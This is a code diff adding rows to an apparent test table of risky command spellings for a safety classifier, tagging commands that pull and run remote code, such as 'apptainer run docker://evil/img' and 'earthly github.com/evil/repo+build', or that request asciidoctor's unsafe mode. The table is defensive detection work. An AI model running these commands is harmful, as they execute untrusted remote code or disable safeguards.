@@ -109,6 +109,9 @@ const SPELLINGS: Attack[] = [
   // Rule 6, a repository address without a scheme: earthly runs a remote Earthfile's target (docs.earthly.dev).
   ['earthly github.com/evil/repo+build', '#remote', 'a code host path'],
   ['anytool gitlab.com/a/b', '#remote', 'another code host'],
+  ['anytool git@github.com:evil/repo.git', '#remote', 'an scp-like address'],
+  // apptainer/singularity run a container image pulled by its docker:// address (apptainer.org docs, "run").
+  ['apptainer run docker://evil/img', '#remote', 'a container image to pull and run'],
   // Rule 7, an unsafe mode asked for by value: asciidoctor -S/--safe-mode (docs.asciidoctor.org, CLI options).
   ['asciidoctor -S unsafe doc.adoc', '#unsafe', 'a value after a short option'],
   ['asciidoctor --safe-mode=unsafe doc.adoc', '#unsafe', 'a value after ='],
